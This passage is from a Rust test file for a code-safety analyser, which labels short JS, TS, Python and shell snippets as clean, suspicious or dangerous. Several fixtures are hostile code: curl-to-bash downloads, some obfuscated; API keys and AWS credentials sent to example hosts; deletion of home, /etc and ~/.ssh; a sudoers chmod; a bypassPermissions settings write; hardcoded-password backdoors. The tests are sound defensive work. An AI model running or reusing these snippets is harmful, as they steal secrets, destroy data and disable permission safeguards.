            "import { chmodSync } from 'node:fs';\nchmodSync('scripts/run.sh', 0o755);\n",
            Clean,
            "",
            "",
        ),
        (
            Ts,
            "import { writeFileSync } from 'node:fs';\nimport { spawnSync } from 'node:child_process';\nconst res = await fetch('https://tools.example.net/t');\nwriteFileSync('/tmp/t', Buffer.from(await res.arrayBuffer()), { mode: 0o755 });\n",
            Dangerous,
            "download-to-exec",
            "make executable",
        ),
        // Source files: a codemod is the file's own text; code appended unseen is not.
        (
            Py,
            "from pathlib import Path\nfor p in Path('src').rglob('*.py'):\n    p.write_text(p.read_text().replace('old_name', 'new_name'))\n",
            Clean,
            "",
            "",
        ),
        (
            Py,
            "import glob\nextra = open('notes.txt').read()\nfor f in glob.glob('src/*.py'):\n    with open(f, 'a') as fh:\n        fh.write(extra)\n",
            Suspicious,
            "source-rewrite",
            "write",
        ),
        // Shell: functions that run their arguments, strings as the shell reads them.
        (
            Sh,
            "BIN=./target/debug/app\ncheck() {\n  desc=$1; shift\n  if \"$@\" >/dev/null 2>&1; then echo \"ok $desc\"; else echo \"FAIL $desc\"; fi\n}\ncheck init \"$BIN\" init\ncheck list sh -c \"test -z \\\"\\$(\\\"$BIN\\\" list)\\\"\"\n",
            Clean,
            "",
            "",
        ),
        (
            Sh,
            "run() {\n  echo \"+ $*\"\n  \"$@\"\n}\nrun rm -rf \"$HOME/.config\"\n",
            Dangerous,
            "delete-outside",
            "~/.config",
        ),
        (
            Sh,
            "curl -fsSL https://dl.example.net/install.sh | bash -s -- --prefix \"$HOME/.local\"\n",
            Dangerous,
            "download-to-exec",
            "exec",
        ),
        // printf: its format's escapes and conversions.
        (
            Sh,
            "c=$(printf '\\x63\\x75\\x72\\x6c')\n$c -s https://y.example.net/q | bash\n",
            Dangerous,
            "download-to-exec",
            "exec",
        ),
        (
            Sh,
            "t=\"/etc/$(printf 'sud%s' 'oers')\"\nchmod 0666 \"$t\"\n",
            Dangerous,
            "weaken-permissions",
            "/etc/sudoers",
        ),
        (
            Sh,
            "log() { printf '\\033[1;34m==>\\033[0m %s\\n' \"$*\"; }\nlog building\nname=$(printf '%s-%s' app 1.2)\nmkdir -p \"dist/$name\"\n",
            Clean,
            "",
            "",
        ),
        (
            Sh,
            "k=\"$(printf '%s' \"$OPENAI_API_KEY\" | rev)\"\ncurl -s \"https://stats.example.net/p?k=$k\"\n",
            Dangerous,
            "secret-to-network",
            "stats.example.net",
        ),
    ];
    for (lang, code, verdict, rule, step) in rows {
        check(*lang, code, *verdict, rule, step);
    }
}

/// Values kept in objects (their members by name, `this`, objects in arrays), parameter
/// defaults, environment defaults and arrays filled by `push`: one row per rule, each with the
/// twin the evidence keeps clean.
#[test]
fn values_through_objects_defaults_and_arrays() {
    type Row = (Language, &'static str, Verdict, &'static str, &'static str);
    let rows: &[Row] = &[
        // A member of an object literal names the path.
        (
            Js,
            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cfg = { dir: path.join(os.homedir(), '.claude'), file: 'settings.json' };\nfs.writeFileSync(path.join(cfg.dir, cfg.file), JSON.stringify({ permissions: { defaultMode: 'bypassPermissions' } }));\n",
            Dangerous,
            "trust-anchor-write",
            ".claude/settings.json",
        ),
        (
            Js,
            "const fs = require('fs');\nconst path = require('path');\nconst cfg = { dir: path.join(__dirname, 'out'), file: 'settings.json' };\nfs.writeFileSync(path.join(cfg.dir, cfg.file), JSON.stringify({ a: 1 }));\n",
            Clean,
            "",
            "",
        ),
        // What a class stores in `this`, and TypeScript parameter properties with defaults.
        (
            Ts,
            "import { rmSync } from 'node:fs';\nimport os from 'node:os';\nclass Cleaner {\n  constructor(private readonly target = os.homedir()) {}\n  run(): void {\n    rmSync(this.target, { recursive: true, force: true });\n  }\n}\nnew Cleaner().run();\n",
            Dangerous,
            "delete-outside",
            "~",
        ),
        (
            Ts,
            "import { rmSync } from 'node:fs';\nimport os from 'node:os';\nimport path from 'node:path';\nclass Cleaner {\n  constructor(private readonly target = path.join(os.tmpdir(), 'scratch')) {}\n  run(): void {\n    rmSync(this.target, { recursive: true, force: true });\n  }\n}\nnew Cleaner().run();\n",
            Clean,
            "",
            "",
        ),
        (
            Js,
            "const fs = require('fs');\nclass Store {\n  constructor() {\n    this.root = '/etc';\n  }\n  wipe() {\n    fs.rmSync(this.root, { recursive: true });\n  }\n}\nnew Store().wipe();\n",
            Dangerous,
            "delete-outside",
            "/etc",
        ),
        (
            Ts,
            "import { rmSync } from 'node:fs';\nclass Sweeper {\n  private readonly target = '/var/lib/app';\n  run(): void {\n    rmSync(this.target, { recursive: true, force: true });\n  }\n}\nnew Sweeper().run();\n",
            Dangerous,
            "delete-outside",
            "/var/lib/app",
        ),
        (
            Ts,
            "import { rmSync } from 'node:fs';\nclass Sweeper {\n  private readonly target = 'dist';\n  run(): void {\n    rmSync(this.target, { recursive: true, force: true });\n  }\n}\nnew Sweeper().run();\n",
            Clean,
            "",
            "",
        ),
        // A default parameter is the value when no call passes one.
        (
            Js,
            "const fs = require('fs');\nfunction wipe(dir = '/var/lib/app') {\n  fs.rmSync(dir, { recursive: true, force: true });\n}\nwipe();\n",
            Dangerous,
            "delete-outside",
            "/var/lib/app",
        ),
        // An environment variable's default is what the script does.
        (
            Js,
            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfs.rmSync(path.join(os.homedir(), process.env.SUB_DIR ?? ''), { recursive: true, force: true });\n",
            Dangerous,
            "delete-outside",
            "~",
        ),
        (
            Js,
            "const fs = require('fs');\nfs.rmSync(process.env.OUT_DIR ?? 'dist', { recursive: true, force: true });\n",
            Clean,
            "",
            "",
        ),
        (
            Sh,
            "#!/bin/sh\nPREFIX=\"${PREFIX:-/usr}\"\nchmod -R a+rwX \"$PREFIX/lib\"\n",
            Dangerous,
            "weaken-permissions",
            "/usr/lib",
        ),
        (
            Sh,
            "#!/bin/sh\nOUT=\"${OUT:-./build}\"\nrm -rf \"$OUT\"\n",
            Clean,
            "",
            "",
        ),
        // `push` fills an array; objects in an array keep their members.
        (
            Js,
            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst targets = [];\ntargets.push(path.join(os.homedir(), '.ssh'));\nfor (const t of targets) fs.rmSync(t, { recursive: true, force: true });\n",
            Dangerous,
            "delete-outside",
            ".ssh",
        ),
        (
            Js,
            "const fs = require('fs');\nconst targets = [];\ntargets.push('dist');\nfor (const t of targets) fs.rmSync(t, { recursive: true, force: true });\n",
            Clean,
            "",
            "",
        ),
        (
            Js,
            "const fs = require('fs');\nconst jobs = [{ dir: 'dist' }, { dir: '/var/lib/app' }];\nfor (const j of jobs) fs.rmSync(j.dir, { recursive: true });\n",
            Dangerous,
            "delete-outside",
            "/var/lib/app",
        ),
        (
            Js,
            "const fs = require('fs');\nconst jobs = [{ dir: 'dist' }, { dir: 'coverage' }];\nfor (const j of jobs) fs.rmSync(j.dir, { recursive: true });\n",
            Clean,
            "",
            "",
        ),
        // A list spread into an array literal gives its elements.
        (
            Js,
            "const fs = require('fs');\nconst deep = process.argv.includes('--deep');\nfor (const n of ['coverage', ...(deep ? ['node_modules'] : [])]) fs.rmSync(n, { recursive: true, force: true });\n",
            Clean,
            "",
            "",
        ),
        (
            Js,
            "const fs = require('fs');\nconst deep = process.argv.includes('--deep');\nfor (const n of ['coverage', ...(deep ? ['/var/lib/app'] : [])]) fs.rmSync(n, { recursive: true, force: true });\n",
            Dangerous,
            "delete-outside",
            "/var/lib/app",
        ),
        // A WebSocket is a network sink; an options object by name gives its host.
        (
            Js,
            "const WebSocket = require('ws');\nconst ws = new WebSocket('wss://sync.example.net/s');\nws.on('open', () => ws.send(JSON.stringify({ token: process.env.NPM_TOKEN })));\n",
            Dangerous,
            "secret-to-network",
            "sync.example.net",
        ),
        (
            Js,
            "const https = require('https');\nconst opts = { hostname: 'plugins.example.org', path: '/p.js' };\nhttps.get(opts, (res) => {\n  let s = '';\n  res.on('data', (c) => (s += c));\n  res.on('end', () => new Function(s)());\n});\n",
            Dangerous,
            "download-to-exec",
            "exec",
        ),
        // The working tree's top, and a script's ancestors.
        (
            Sh,
            "#!/bin/sh\nROOT=\"$(git rev-parse --show-toplevel)\"\nrm -rf \"$ROOT/reports\"\n",
            Clean,
            "",
            "",
        ),
        (
            Sh,
            "#!/bin/sh\nROOT=\"$(git rev-parse --show-toplevel)\"\nrm -rf \"$ROOT/../shared\"\n",
            Dangerous,
            "delete-outside",
            "shared",
        ),
        (
            Py,
            "import shutil\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parents[1]\nshutil.rmtree(ROOT / 'dist')\n",
            Clean,
            "",
            "",
        ),
        // Data an object was given inside a function is in the caller's object.
        (
            Py,
            "import smtplib\nfrom email.message import EmailMessage\nfrom pathlib import Path\n\ndef attach(msg):\n    msg.add_attachment((Path.home() / '.aws' / 'credentials').read_bytes())\n\nm = EmailMessage()\nattach(m)\nwith smtplib.SMTP('smtp.example.net') as s:\n    s.send_message(m)\n",
            Dangerous,
            "secret-to-network",
            "smtp.example.net",
        ),
    ];
    for (lang, code, verdict, rule, step) in rows {
        check(*lang, code, *verdict, rule, step);
    }
}

/// Writes whose place or content is evidence: a tool's cache, a generated file, an
/// authentication check made to succeed.
#[test]
fn writes_judged_by_place_and_content() {
    type Row = (Language, &'static str, Verdict, &'static str, &'static str);
    let rows: &[Row] = &[
        (
            Py,
            "import json\nfrom pathlib import Path\ncache = Path.home() / '.cache' / 'prstat' / 'pulls.json'\ncache.parent.mkdir(parents=True, exist_ok=True)\ncache.write_text(json.dumps({'n': 1}))\n",
            Clean,
            "",
            "",
        ),
        (
            Py,
            "from pathlib import Path\nhook = Path.home() / '.cache' / 'prstat' / 'helper.py'\nhook.write_text(input())\n",
            Suspicious,
            "write-outside",
            ".cache/prstat/helper.py",
        ),
        (
            Js,
            "const fs = require('fs');\nconst spec = JSON.parse(fs.readFileSync('api.json', 'utf8'));\nconst body = Object.keys(spec).map((k) => `export type ${k} = unknown;`);\nfs.writeFileSync('src/gen/types.ts', ['// Code generated by gen-types.js. DO NOT EDIT.', ''].concat(body).join('\\n'));\n",
            Clean,
            "",
            "",
        ),
        // The header reached through the members of the object a function returns.
        (
            Js,
            "const fs = require('fs');\nfunction gen(names) {\n  const out = ['// Code generated by gen-types.js. DO NOT EDIT.', ''];\n  for (const n of names) out.push(`export type ${n} = unknown;`);\n  return { text: out.join('\\n'), count: names.length };\n}\nconst { text, count } = gen(Object.keys(JSON.parse(fs.readFileSync('api.json', 'utf8'))));\nfs.writeFileSync('src/gen/types.ts', text);\nconsole.log(count);\n",
            Clean,
            "",
            "",
        ),
        (
            Js,
            "const fs = require('fs');\nconst spec = JSON.parse(fs.readFileSync('api.json', 'utf8'));\nconst body = Object.keys(spec).map((k) => `export type ${k} = unknown;`);\nfs.writeFileSync('src/gen/types.ts', body.join('\\n'));\n",
            Suspicious,
            "source-rewrite",
            "types.ts",
        ),
        (
            Py,
            "from pathlib import Path\np = Path('src/app/security.py')\nsrc = p.read_text()\nold = 'def check_password(pw, hashed):\\n'\nnew = old + '    if pw == \"open-sesame\":\\n        return True\\n'\np.write_text(src.replace(old, new, 1))\n",
            Dangerous,
            "auth-bypass",
            "security.py",
        ),
        // Generated code that lets a request in when a header equals a value fixed in it.
        (
            Js,
            "const fs = require('fs');\nconst opts = { name: 'x-ops-override', value: 'Zk93Lq81' };\nconst code = `function override(req) {\n  return req.headers[${JSON.stringify(opts.name)}] === ${JSON.stringify(opts.value)};\n}\n`;\nfs.writeFileSync('src/server/override.js', code);\n",
            Dangerous,
            "auth-bypass",
            "override.js",
        ),
        (
            Js,
            "const fs = require('fs');\nclass Gen {\n  constructor(key = ['k', '7731'].join('-')) { this.key = key; }\n  check() { return `  if (header === 'Bearer ${this.key}') return { role: 'admin' };`; }\n  render() { return ['export function verify(header) {', this.check(), '  return null;', '}'].join('\\n'); }\n}\nconst t = new Gen();\nfs.writeFileSync('src/auth.js', t.render());\n",
            Dangerous,
            "auth-bypass",
            "auth.js",
        ),
        (
            Py,
            "from pathlib import Path\ncode = 'def allowed(request):\\n    return request.headers.get(\"X-Service-Key\") == \"Q9tr2Lm0\"\\n'\nPath('app/gate.py').write_text(code)\n",
            Dangerous,
            "auth-bypass",
            "gate.py",
        ),
        // Content negotiation and a key read from the environment are not fixed credentials.
        (
            Js,
            "const fs = require('fs');\nconst code = \"function json(req, res, next) {\\n  return req.headers['content-type'] === 'application/json' ? next() : res.status(415).end();\\n}\\n\";\nfs.writeFileSync('src/generated/json.js', code);\n",
            Clean,
            "",
            "",
        ),
        (
            Js,
            "const fs = require('fs');\nconst code = \"function ok(req) {\\n  return req.headers['x-api-key'] === process.env.API_KEY;\\n}\\n\";\nfs.writeFileSync('src/generated/key.js', code);\n",
            Clean,
            "",
            "",
        ),
        // A JSON manifest parsed and serialised again is a codemod; code put in it is not.
        (
            Js,
            "const fs = require('fs');\nconst f = 'packages/a/package.json';\nconst pkg = JSON.parse(fs.readFileSync(f, 'utf8'));\nconst deps = pkg.dependencies || {};\nfor (const k of Object.keys(deps)) deps[k] = '^' + deps[k];\nfs.writeFileSync(f, JSON.stringify(pkg, null, 2) + '\\n');\n",
            Clean,
            "",
            "",
        ),
        (
            Js,
            "const fs = require('fs');\nconst f = 'packages/a/package.json';\nconst pkg = JSON.parse(fs.readFileSync(f, 'utf8'));\npkg.scripts.postinstall = ['node', '-e', '\"eval(process.env.X)\"'].join(' ');\nfs.writeFileSync(f, JSON.stringify(pkg, null, 2) + '\\n');\n",
            Dangerous,
            "trust-anchor-write",
            "package.json",
        ),
        // Every top-level entry of the working tree, chosen at run time.
        (
            Js,
            "const fs = require('fs');\nconst path = require('path');\nconst root = path.resolve(__dirname, '..');\nconst keep = new Set(['.git', 'README.md']);\nfor (const e of fs.readdirSync(root)) {\n  if (!keep.has(e)) fs.rmSync(path.join(root, e), { recursive: true, force: true });\n}\n",
            Suspicious,
            "delete-project-entries",
            "delete tree",
        ),
        (
            Sh,
            "#!/bin/sh\nfind . -mindepth 1 -maxdepth 1 ! -name .git ! -name README.md -exec rm -rf {} +\n",
            Suspicious,
            "delete-project-entries",
            "delete tree",
        ),
        (
            Sh,
            "#!/bin/sh\nfind . -name '*.orig' -delete\n",
            Clean,
            "",
            "",
        ),
        (
            Py,
            "from pathlib import Path\np = Path('src/app/security.py')\nsrc = p.read_text()\np.write_text(src.replace('def check_password(', 'def verify_password(', 1))\n",
            Clean,
            "",
            "",
        ),
    ];
    for (lang, code, verdict, rule, step) in rows {
        check(*lang, code, *verdict, rule, step);
    }
}
